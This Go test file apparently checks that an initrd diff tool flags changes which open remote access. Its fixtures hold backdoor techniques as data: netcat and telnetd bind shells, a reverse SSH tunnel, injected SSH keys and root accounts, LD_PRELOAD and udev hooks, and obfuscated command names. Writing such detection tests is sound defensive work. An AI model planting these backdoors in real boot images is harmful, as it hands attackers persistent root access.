package main

import (
	"fmt"
	"maps"
	"strings"
	"testing"
	"testing/fstest"

	"groundhog/fixtures/judge"
	"groundhog/fixtures/tiny"
	"groundhog/initrd"
)

// gateArchive is the small target with other files, nil for one that is gone.
func gateArchive(t *testing.T, change fstest.MapFS) string {
	t.Helper()
	target := tiny.New("bookworm", true)
	maps.Copy(target.Archive, change)
	for name, f := range change {
		if f == nil {
			delete(target.Archive, name)
		}
	}
	b := judge.Value(target.Bytes(initrd.Gzip))(t)
	return bombFile(t, "initrd.img", b)
}

// The gate trips at whatever lets somebody else in, or lets somebody who was let in do more.
func TestGateLogins(t *testing.T) {
	const keys = tiny.Home + "/.ssh/authorized_keys"
	const premount, order, conf = "scripts/init-premount/dropbear", "scripts/init-premount/ORDER", "etc/dropbear/dropbear.conf"
	root := "root:*:0:0::/" + tiny.Home + ":/bin/sh\n"
	script, run := tiny.Premount("dropbear.conf"), "/scripts/init-premount/dropbear \"$@\"\n"
	evil := func(more fstest.MapFS) fstest.MapFS {
		all := fstest.MapFS{"evil/.ssh/authorized_keys": tiny.Text(tiny.LoginEd25519)}
		maps.Copy(all, more)
		return all
	}
	secret := func(text string) *fstest.MapFile { return &fstest.MapFile{Data: []byte(text), Mode: 0o600} }
	file := func(name, text string) fstest.MapFS { return fstest.MapFS{name: tiny.Text(text)} }
	program := func(name, text string) fstest.MapFS { return fstest.MapFS{name: tiny.Program([]byte(text))} }
	const elf = "\x7fELF"
	forced := file(keys, `command="/bin/true" `+tiny.LoginECDSA)
	type way struct {
		was, is fstest.MapFS
		quiet   bool
	}
	for name, w := range map[string]way{
		"nothing":                     {nil, nil, true},
		"a comment in a script":       {nil, program("scripts/init-top/x", "#!/bin/sh\n# dropbear and sshd are not started here\necho telnet\n"), true},
		"another home":                {nil, fstest.MapFS{"etc/passwd": secret("root:*:0:0::/root-aaaaaaaaaa:/bin/sh\n"), keys: nil, "root-aaaaaaaaaa/.ssh/authorized_keys": secret(tiny.LoginECDSA)}, true},
		"another key":                 {nil, file(keys, tiny.LoginEd25519), false},
		"a key's options":             {forced, file(keys, tiny.LoginECDSA), false},
		"another's uid":               {evil(file("etc/passwd", root+"me:*:1000:1000::/evil:/bin/sh\n")), evil(file("etc/passwd", root+"me:*:0:0::/evil:/bin/sh\n")), false},
		"another's shell":             {evil(file("etc/passwd", root+"me:*:0:0::/evil:/bin/false\n")), evil(file("etc/passwd", root+"me:*:0:0::/evil:\n")), false},
		"carriage returns":            {nil, evil(file("etc/passwd", "root:*:0:0::/evil:/bin/sh\r\n"+root)), false},
		"NUL":                         {nil, evil(file("etc/passwd", "root:*:0:0::/evil\x00:\n"+root)), false},
		"blanks":                      {nil, evil(file("etc/passwd", " \troot:*:0:0::/evil:/bin/sh\n"+root)), false},
		"a line of NIS":               {nil, file("etc/passwd", root+"+::::::\n"), false},
		"a password":                  {nil, file("etc/passwd", strings.Replace(root, "*", "$1$x$y", 1)), false},
		"a shadow":                    {nil, fstest.MapFS{"etc/passwd": tiny.Text(strings.Replace(root, "*", "x", 1)), "etc/shadow": tiny.Text("root:$1$x$y:1::::::\n")}, false},
		"no password":                 {nil, fstest.MapFS{"etc/passwd": tiny.Text(strings.Replace(root, "*", "", 1)), conf: tiny.Text("DROPBEAR_OPTIONS=-B\n")}, false},
		"another module of accounts":  {nil, evil(file("etc/nsswitch.conf", "passwd: extrausers files\n")), false},
		"no nsswitch.conf":            {nil, fstest.MapFS{"etc/nsswitch.conf": nil}, false},
		"a library of accounts":       {nil, program("usr/lib/libnss_files.so.2", elf), false},
		"a link in the place of keys": {evil(nil), evil(fstest.MapFS{keys: tiny.Link("/evil/.ssh/authorized_keys")}), false},
		"a link in .ssh's place":      {evil(nil), evil(fstest.MapFS{tiny.Home + "/.ssh": tiny.Link("/evil/.ssh"), keys: nil}), false},
		"keys on a disk":              {nil, fstest.MapFS{tiny.Home + "/.ssh": tiny.Link("/run/media/.ssh"), keys: nil}, false},
		"-D":                          {nil, evil(file(conf, "DROPBEAR_OPTIONS='-D /evil/.ssh'\n")), false},
		"-D, relative":                {nil, evil(file(conf, "DROPBEAR_OPTIONS='-D evil/.ssh'\n")), false},
		"-D to where nothing is":      {nil, file(conf, "DROPBEAR_OPTIONS='-D /run/x'\n"), false},
		"-D by ORDER":                 {nil, evil(file(order, "export DROPBEAR_OPTIONS='-D /evil/.ssh'\n"+run)), false},
		"-D by ORDER of another room": {nil, evil(file("scripts/init-top/ORDER", "export DROPBEAR_OPTIONS='-D /evil/.ssh'\n")), false},
		"-D by param.conf":            {nil, evil(file("conf/param.conf", "export DROPBEAR_OPTIONS='-D /evil/.ssh'\n")), false},
		"-D by eval":                  {nil, evil(file(conf, "eval DROPBEAR_OPTIONS=-D/evil/.ssh\n")), false},
		"-D in the script":            {nil, evil(program(premount, strings.Replace(script, "run_dropbear &", "DROPBEAR_OPTIONS=-D/evil/.ssh\nrun_dropbear &", 1))), false},
		"-D in a file of the script":  {nil, evil(fstest.MapFS{premount: tiny.Program([]byte(strings.Replace(script, "run_dropbear &", ". /x\nrun_dropbear &", 1))), "x": tiny.Text("DROPBEAR_OPTIONS=-D/evil/.ssh\n")}), false},
		"-D in its functions":         {nil, evil(file("scripts/functions", "configure_networking() {\n\tDROPBEAR_OPTIONS=-D/evil/.ssh\n}\n")), false},
		"a second dropbear":           {nil, evil(program("scripts/init-top/x", "#!/bin/sh\nsetsid /sbin/dropbear -p 23 -D /evil/.ssh\n")), false},
		"a second one by ORDER":       {nil, evil(file(order, "dropbear -D /evil/.ssh -p 23\n"+run)), false},
		"a second one in /init":       {nil, evil(program("init", "#!/bin/sh\nd=/sbin/dropbear\n$d -D /evil/.ssh -p 23\n")), false},
		"sshd":                        {nil, program("usr/sbin/sshd", elf), false},
		"telnetd":                     {nil, program("scripts/local-top/x", "#!/bin/sh\nbusybox telnetd -l /bin/sh\n"), false},
		"getty":                       {nil, program("scripts/init-top/x", "#!/bin/sh\n(getty -n -l /bin/sh 115200 ttyS0) &\n"), false},
		"by udev":                     {nil, file("usr/lib/udev/rules.d/99-x.rules", "ACTION==\"add\", RUN+=\"/bin/sh -c 'telnetd -l /bin/sh'\"\n"), false},
		"by a NUL in udev's":          {nil, file("etc/udev/rules.d/99-x.rules", "#\x00\nRUN+=\"/bin/sh -c 'telnetd -l /bin/sh'\"\n"), false},
		"by a long rule":              {nil, file("usr/lib/udev/rules.d/99-x.rules", strings.Repeat("# x\n", 1<<15)), false},
		"by modprobe":                 {nil, file("etc/modprobe.d/x.conf", "install loop telnetd -l /bin/sh\n"), false},
		"by a file that is sourced":   {nil, fstest.MapFS{"scripts/init-top/x": tiny.Program([]byte("#!/bin/sh\n. /usr/share/x\n")), "usr/share/x": tiny.Text("telnetd -l /bin/sh\n")}, false},
		"by a word with NUL":          {nil, program("scripts/init-top/x", "#!/bin/sh\ntel\x00netd -l /bin/sh\n"), false},
		"by a word in two lines":      {nil, program("scripts/init-top/x", "#!/bin/sh\ntel\\\nnetd -l /bin/sh\n"), false},
		"by a word in two parts":      {nil, program("scripts/init-top/x", "#!/bin/sh\ntel\"\"ne''td -l /bin/sh\n"), false},
		"by a long script.sh":         {nil, program("scripts/init-top/x.sh", "#!/bin/sh\n"+strings.Repeat("# x\n", 1<<15)+"telnetd -l /bin/sh\n"), false},
		"by ld.so.preload":            {nil, file("etc/ld.so.preload", "/usr/lib/x.so\n"), false},
		"by LD_PRELOAD":               {nil, file("conf/conf.d/x", "export LD_PRELOAD=/usr/lib/x.so\n"), false},
		"by a letter in quotes":       {nil, program("scripts/init-top/x", "#!/bin/sh\ntel\"n\"etd -l /bin/sh\n"), false},
		"by an escaped letter":        {nil, program("scripts/init-top/x", "#!/bin/sh\ntel\\netd -l /bin/sh\n"), false},
		"by LD_PRE\\LOAD":             {nil, file("conf/conf.d/x", "export LD_PRE\\LOAD=/usr/lib/x.so\n"), false},
		"by /etc//passwd-":            {nil, fstest.MapFS{"scripts/init-top/x": tiny.Program([]byte("#!/bin/sh\n. /etc/.//passwd-\n")), "etc/passwd-": tiny.Text("telnetd -l /bin/sh\n")}, false},
		"by ~/.ssh/auth*":             {nil, program("scripts/init-top/x", "#!/bin/sh\ncat /x >>/root*/.ssh/auth*\n"), false},
		"by what is said":             {nil, program("scripts/init-top/x", "#!/bin/sh\nlog_begin_msg() { eval \"$*\"; }\nlog_begin_msg \"dropbear -p 23 -D /evil/.ssh\"\n"), false},
		"by what is said elsewhere":   {nil, fstest.MapFS{"x": tiny.Text("_log_msg() { \"$@\"; }\n"), "scripts/init-top/x": tiny.Program([]byte("#!/bin/sh\n. /x\nlog_end_msg \"telnetd -l /bin/sh\"\n"))}, false},
		"by an alias of what is said": {nil, program("scripts/init-top/x", "#!/bin/sh\nalias log_begin_msg=eval\nlog_begin_msg \"telnetd -l /bin/sh\"\n"), false},
		"by a program that is told":   {nil, fstest.MapFS{"usr/bin/log_end_msg": tiny.Program([]byte("#!/bin/sh\n$1\n")), "scripts/init-top/x": tiny.Program([]byte("#!/bin/sh\nlog_end_msg \"telnetd\"\n"))}, false},
		"by what nobody says":         {nil, program("scripts/init-top/x", "#!/bin/sh\nlog_x_msg \"telnetd -l /bin/sh\"\n"), false},
		"by an index of modules":      {nil, fstest.MapFS{"scripts/init-top/x": tiny.Program([]byte("#!/bin/sh\nfor f in /lib/modules/*/modules.*; do . $f; done\n")), "usr/lib/modules/6/modules.order": tiny.Text("telnetd -l /bin/sh\n")}, false},
		"a long script by a link":     {nil, fstest.MapFS{"scripts/local-top/x": tiny.Link("/y"), "y": tiny.Program([]byte("#!/bin/sh\n" + strings.Repeat("# x\n", 1<<15)))}, false},
		"a room by a link":            {nil, fstest.MapFS{"scripts/local-top": tiny.Link("/y"), "y/x": tiny.Program([]byte("#!/bin/sh\n#\x00\ntelnetd -l /bin/sh\n"))}, false},
		"rules by two links":          {nil, fstest.MapFS{"etc/udev/rules.d": tiny.Link("/y"), "y/x.rules": tiny.Link("/z"), "z": tiny.Text("#\x00\nRUN+=\"/bin/sh -c 'telnetd -l /bin/sh'\"\n")}, false},
		"a server by a link":          {nil, fstest.MapFS{"scripts/local-top/x": tiny.Link("/sbin/dropbear")}, false},
		"more links than are followed": {nil, func() fstest.MapFS {
			all := fstest.MapFS{}
			for i := range 600 {
				all[fmt.Sprintf("scripts/x/%d", i)] = tiny.Link("/conf")
			}
			return all
		}(), false},
		"links that lead to links": {nil, func() fstest.MapFS {
			all := fstest.MapFS{"scripts/z": tiny.Link("/d20")}
			for i := range 20 { // each is found in the directory that the one before it has led to
				all[fmt.Sprintf("d%d/x", i+1)] = tiny.Link(fmt.Sprintf("/d%d", i))
			}
			all["d0/x"] = tiny.Text("# nothing\n")
			return all
		}(), false},
		"what is preloaded, by a link": {fstest.MapFS{"etc/ld.so.preload": tiny.Link("/x"), "x": tiny.Text("/y.so\n")}, fstest.MapFS{"etc/ld.so.preload": tiny.Link("/x"), "x": tiny.Text("/z.so\n")}, false},
		"httpd":                        {nil, program("scripts/init-top/x", "#!/bin/sh\nbusybox httpd -h /srv\n"), false},
		"a server in no place of one":  {nil, program("usr/lib/x/sshd", elf), false},
		"nc in quotes":                 {nil, program("scripts/init-top/x", "#!/bin/sh\nnc -p 23 '-l' \"-e\" /bin/sh\n"), false},
		"another nc":                   {nil, program("scripts/init-top/x", "#!/bin/sh\nnc.openbsd --listen 23 </f | sh >/f\n"), false},
		"a tunnel":                     {nil, program("scripts/init-top/x", "#!/bin/sh\ndbclient -y -R 22:localhost:22 me@192.0.2.1\n"), false},
		"a socket of systemd's":        {nil, file("usr/lib/systemd/system/x.socket", "[Socket]\nListenStream=23\nAccept=yes\n"), false},
		"what depmod makes":            {nil, file("usr/lib/modules/6/modules.softdep", "# nothing\nsoftdep httpd pre: telnetd\n"), true},
		"settings that were moved":     {file(conf, "DROPBEAR_OPTIONS='-c true'\n"), fstest.MapFS{conf: nil, conf + ".old": tiny.Text("DROPBEAR_OPTIONS='-c true'\n")}, false},
		"nc":                           {nil, program("scripts/init-top/x", "#!/bin/sh\nwhile :; do nc -l -p 23 -e /bin/sh; done\n"), false},
	} {
		t.Run(name, func(t *testing.T) {
			old, now := gateArchive(t, w.was), gateArchive(t, w.is)
			want := 1
			if w.quiet {
				want = 0
			}
			if code, out, errs := here("diff", old, now, "--fail-on", "keys"); code != want {
				t.Errorf("exit code %d, want %d\n%s%s", code, want, out, errs)
			}
		})
	}
}
